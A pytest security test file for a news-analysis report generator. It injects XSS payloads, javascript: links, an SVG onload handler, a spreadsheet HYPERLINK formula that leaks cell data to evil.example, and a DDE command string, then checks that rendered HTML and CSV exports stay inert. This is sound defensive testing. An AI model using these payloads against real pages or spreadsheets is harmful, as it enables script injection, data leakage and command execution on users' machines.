"""A study whose articles attack: its report, opened in a real browser, runs and fetches nothing; its CSV is text."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import yaml

from analysis.cells import unescaped
from analysis.study import PACKAGE
from tests.conftest import called, samestory

pytestmark = pytest.mark.slow

SCRIPT = "<script>window.hit='script'</script>"
IMAGE = '"><img src=x onerror="window.hit=\'image\'">'
QUOTED = "' onmouseover='window.hit=1' autofocus onfocus='window.hit=1' x='"
DRAWN = "</title></style></textarea>--><svg onload=\"window.hit='svg'\">"
OURS = PACKAGE / "reporting" / "site_browse.js"
LINK = "[link](javascript:window.hit='link') ![image](http://evil.example/a.png) <http://evil.example/b>"
ENTITY = "&lt;script&gt;window.hit='entity'&lt;/script&gt;"
MATHS = "$\\href{javascript:window.hit='maths'}{x}$ \\(y\\) ``` ~~~ ## | a | {{7*7}} %s {0}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
ATTACKS = (SCRIPT, IMAGE, QUOTED, DRAWN, LINK, ENTITY, MATHS)
OUTLETS = (
    f"Gull {SCRIPT}",
    f"Tern {IMAGE}",
    f"Auk {LINK} {MATHS}",
    f"{FORMULA} {DRAWN}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def articles():
    """Five outlets, four days: one story told by all, with a quotation that drifts, a copied text, loaded words."""
    for place, outlet in enumerate(OUTLETS):
        for day in range(4):
            attack, other = ATTACKS[(place + day) % 7], ATTACKS[(place + day + 3) % 7]
            label = "invasion" if (place + day) % 2 else "special military operation"
            shared = (
                f"“The {label} {attack} must end before winter comes,” said Jane {SCRIPT} Doe of the harbour council. "
                f"She told reporters that 4{place} boats {other} and 12 ships would sail on 14 June. "
                "Russian troops attacked the port of Odesa on Friday, and the government in Kyiv rejected the offer."
            )
            own = f"In {outlet} the war in Ukraine was a {label} {other}. Moscow claimed {attack} that talks failed."
            wire = (
                f"The ministers of seven states met in the old hall {attack} and parted without a text on trade. " * 2
            )
            yield {
                "outlet": outlet,
                "headline": f"{(FORMULA, SCRIPT, IMAGE, LINK)[day]} Ukraine {label} on day {day} {attack}",
                "deck": f"-1+1 {other}",
                "byline": f"Jane {SCRIPT} Doe, +1 {IMAGE}",
                "section": f"{DRAWN} News",
                "published": f"2024-06-1{day + 4}",
                "url": f"javascript:window.hit='url{place}{day}'",
                "body": f"{FORMULA} stands first.\n\n{shared}\n\n{own}\n\n{wire}",
            }


@pytest.fixture(scope="module")
def study(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile") / "study"
    (folder / "articles").mkdir(parents=True)
    lines = "".join(f"{json.dumps(one)}\n" for one in articles())
    (folder / "articles" / "a.jsonl").write_text(lines, encoding="utf-8")
    said = {
        "title": f"Attack {SCRIPT} {IMAGE} {LINK}",
        "articles": "articles",
        "codebooks": ["ukraine-war", "generic-frames", "reporting-verbs", "actors"],
        "events": [{"date": "2024-06-15", "label": f"Event {SCRIPT}"}],
    }
    (folder / "study.yml").write_text(yaml.safe_dump(said), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def report(study, tmp_path_factory) -> Path:
    """The whole report, with few replicates."""
    work = tmp_path_factory.mktemp("report")
    few = ("--set", "replicates=20", "--set", "permutations=20")
    run = samestory("report", study, *few, "--out", work / "out", cwd=work)
    assert run.returncode == 0, run.stderr
    return work / "out"


@pytest.mark.parametrize("bypass", [False, True], ids=["as written", "without the page's own policy"])
def test_no_page_runs_or_fetches_anything(browser, report, bypass):
    pages = [*sorted(report.glob("*.html")), *sorted(report.glob("articles/*.html"))[:6]]
    assert len(pages) == 20
    ours = OURS.read_text(encoding="utf-8")
    context = browser.new_context(bypass_csp=bypass)
    said = []
    for file in pages:
        page = context.new_page()
        page.on(
            "dialog", lambda dialog, file=file: (said.append((file.name, "dialog", dialog.message)), dialog.dismiss())
        )
        page.on("console", lambda line, file=file: said.append((file.name, line.type, line.text)))
        page.on("pageerror", lambda error, file=file: said.append((file.name, "error", str(error))))
        page.on("request", lambda asked, file=file: _note_request(said, file.name, asked.url))
        page.goto(file.as_uri(), wait_until="load")
        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        page.evaluate("document.querySelectorAll('*').forEach(one => one.dispatchEvent(new Event('mouseover')))")
        page.wait_for_timeout(100)
        assert page.evaluate("window.hit") is None, file.name
        assert page.locator("iframe, object, embed, form[action], base, svg, link").count() == 0, file.name
        scripts = page.evaluate("[...document.scripts].filter(one => !one.type).map(one => one.textContent)")
        assert scripts == [ours] * (file.name in ("articles.html", "concordance.html")), file.name
        wrong = "[...document.querySelectorAll('*')].flatMap(one => [...one.attributes]).filter(one => {})"
        assert page.evaluate(wrong.format("one.name.startsWith('on')") + ".length") == 0, file.name
        protocols = page.evaluate("[...document.querySelectorAll('a')].map(one => one.protocol)")
        assert set(protocols) <= {"file:", "http:", "https:"}, file.name
        images = page.evaluate("[...document.querySelectorAll('img')].map(one => one.getAttribute('src').slice(0, 5))")
        assert set(images) <= {"data:"}, file.name
        page.close()
    context.close()
    assert said == []


def _note_request(said: list, name: str, url: str) -> None:
    if not url.startswith(("file:", "data:")):
        said.append((name, "request", url))


def test_the_attacks_are_there_as_text(browser, report):
    context = browser.new_context()
    page = context.new_page()
    shown = ""
    for file in sorted(report.rglob("*.html")):
        page.goto(file.as_uri())
        shown += page.evaluate("document.body.textContent")
    context.close()
    for attack in (SCRIPT, IMAGE, DRAWN, FORMULA):
        assert attack in shown, f"what is not shown cannot have been tested: {attack}"


def test_pictures_that_are_documents_run_nothing(browser, report):
    pictures = sorted(report.rglob("*.svg"))
    assert pictures
    context = browser.new_context()
    page = context.new_page()
    for file in pictures:
        names = {element.tag.rpartition("}")[2] for element in ET.parse(file).iter()}
        assert not names & {"script", "a", "image", "foreignObject"}, file.name
    for file in pictures[:10]:
        page.goto(file.as_uri())
        assert page.evaluate("window.hit") is None, file.name
    context.close()


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def runs(rows: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet would run."""
    return [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r\n")) and not _number(cell)]


def test_the_tables_of_figures_open_as_text(report):
    found = [cells(file.read_bytes()) for file in sorted(report.rglob("*.csv"))]
    assert any(cell.startswith("'=HYPERLINK") for rows in found for row in rows for cell in row)
    assert [run for rows in found for run in runs(rows)] == []


@pytest.mark.parametrize("table", ["articles", "sentences", "quotes", "furniture"])
def test_exported_csv_opens_as_text(study, report, table):
    run = called("export", study, table, cwd=study)
    assert run.returncode == 0, run.stderr
    head, *rows = cells(run.stdout.encode())
    assert {len(row) for row in rows} <= {len(head)}
    assert runs(rows) == []
    if table == "articles":
        texts = {unescaped(row[head.index("headline")]) for row in rows}
        assert texts == {one["headline"] for one in articles()}, "each text comes back as it was"
        assert sum(row[head.index("outlet")].startswith("'=HYPERLINK(") for row in rows) == 4
